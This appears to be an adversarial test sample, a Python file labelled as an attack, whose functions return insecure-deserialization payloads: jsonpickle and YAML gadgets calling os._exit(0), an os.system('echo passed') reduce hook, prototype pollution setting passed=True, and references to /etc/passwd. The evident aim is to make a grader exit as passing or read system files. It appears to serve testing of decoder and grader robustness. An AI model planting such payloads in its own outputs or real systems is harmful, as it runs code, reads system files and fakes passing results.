# /// attack
# outcomes = ["wrong"]
# says = "py/object"
# ///
"""Returns plain data that decoders with hooks turn into objects, calls and files that they read."""

REVIVED = {
    "__class__": "list",
    "__reduce__": ["os.system", "echo passed"],
    "py/object": "os._exit",
    "py/reduce": [{"py/function": "os._exit"}, {"py/tuple": [0]}],
    "_concrete_type": "loadtxt",
    "_value": "/etc/passwd",
    "_type": "function",
    "!!python/object/apply:os._exit": [0],
    "__proto__": {"passed": True},
    "$ref": "file:///etc/passwd",
}


def read_queue_twice(queue_name, messages):
    return {"py/object": "os._exit", "first": messages, "second": []}


def read_log_twice(stream_name, messages):
    return REVIVED
